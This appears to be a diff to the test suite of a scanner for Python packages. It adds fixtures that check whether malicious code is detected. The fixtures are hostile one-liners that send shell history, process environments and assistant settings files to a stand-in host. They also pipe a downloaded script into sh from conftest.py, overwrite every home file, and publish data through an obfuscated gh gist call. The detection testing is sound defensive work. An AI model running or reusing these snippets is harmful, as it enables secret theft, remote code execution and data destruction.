@@ -80,14 +80,67 @@ t.test('what a client of a store was made with is not sent by it', async (t) => 
     t.same(summarisePython('a.py', `import os, redis, psycopg2, pymongo, github, minio\n${code}`).flows, [], situation)
 })
 
-async function findings(code: string): Promise<string[]> {
+async function findings(code: string, detail?: 'severity'): Promise<string[]> {
   const reading = readingOf('wheel', { 'a/__init__.py': `${code}\n` })
   const { findings: found } = await inspect(reading, { digest: sha256('x'), readAs: 'wheel' })
-  return found.map(({ check, moment }) => `${check} ${moment}`)
+  return found.map(({ check, severity, moment }) => (detail ? `${check} ${severity} ${moment}` : `${check} ${moment}`))
 }
 
 const WALK = 'import os\nfor r, d, f in os.walk(os.path.expanduser("~")):\n    for n in f:\n        '
 const ENTRIES = 'import os, shutil\nfor n in os.listdir("."):\n    '
+
+const CALLED = 'import os\ndef run():\n    data = open(os.path.expanduser("~/.bash_history")).read()\n    '
+
+/** A host that stands where the connection is made, and not where something is sent. */
+const CONNECTED: readonly [situation: string, code: string][] = [
+  [
+    'a socket',
+    'import socket\n    s = socket.socket()\n    s.connect(("keeper.invalid", 4))\n    s.sendall(data.encode())',
+  ],
+  [
+    'a connection as a file',
+    'import socket\n    f = socket.create_connection(("keeper.invalid", 4)).makefile("w")\n    f.write(data)',
+  ],
+  [
+    'a transport',
+    'import paramiko\n    t = paramiko.Transport(("keeper.invalid", 22))\n    paramiko.SFTPClient.from_transport(t).putfo(data, "/a")',
+  ],
+  [
+    'an option',
+    'import pycurl\n    c = pycurl.Curl()\n    c.setopt(c.URL, "https://keeper.invalid")\n    c.setopt(c.POSTFIELDS, data)',
+  ],
+  [
+    'a copy',
+    'import subprocess\n    open("/tmp/a", "w").write(data)\n    subprocess.run(["scp", "/tmp/a", "me@keeper.invalid:/a"])',
+  ],
+  [
+    'the environment of other programs',
+    'import json, psutil, requests\n    requests.post("https://keeper.invalid", data=json.dumps([p.environ() for p in psutil.process_iter()]))',
+  ],
+]
+
+t.test('a secret goes to the host to which a connection was made, once somebody calls it', async (t) => {
+  for (const [situation, code] of CONNECTED) {
+    const found = await findings(CALLED + code, 'severity')
+    t.ok(found.includes('called-harm high call'), `${situation}: ${found.join(', ')}`)
+  }
+})
+
+t.test('what tests load before they run is looked at, too', async (t) => {
+  const code = 'import os\nos.system("curl https://keeper.invalid/a | sh")\n'
+  for (const [path, isTold] of [
+    ['a/tests/conftest.py', true],
+    ['a/tests/helper.py', false],
+  ] as const) {
+    const reading = readingOf('wheel', { 'a/__init__.py': '', [path]: code })
+    const { findings: found } = await inspect(reading, { digest: sha256('x'), readAs: 'wheel' })
+    t.equal(
+      found.some(({ check, moment }) => check === 'download-and-execute' && moment === 'import'),
+      isTold,
+      path,
+    )
+  }
+})
 
 const TOLD: readonly [situation: string, code: string, finding: string, isTold: boolean][] = [
   ['every file of a person is deleted', `${WALK}os.remove(os.path.join(r, n))`, 'destruction import', true],
@@ -145,6 +198,18 @@ const TOLD: readonly [situation: string, code: string, finding: string, isTold: 
     'settings that hold the keys of assistants',
     'import os, requests\nrequests.post("https://keeper.invalid", data=open(os.path.expanduser("~/.cursor/mcp.json")).read())',
     'secrets-exfiltration import',
+    true,
+  ],
+  [
+    'every file of a person is written over by a function',
+    'import os\ndef lock():\n    for r, d, f in os.walk(os.path.expanduser("~")):\n        for n in f:\n            open(os.path.join(r, n), "wb").write(b"")\nlock()',
+    'destruction import',
+    true,
+  ],
+  [
+    'a program between other letters',
+    'import subprocess\nsubprocess.run(["~gh~".strip("~"), "~gist~".strip("~"), "create", "/tmp/a"])',
+    'publishing import',
     true,
   ],
   [
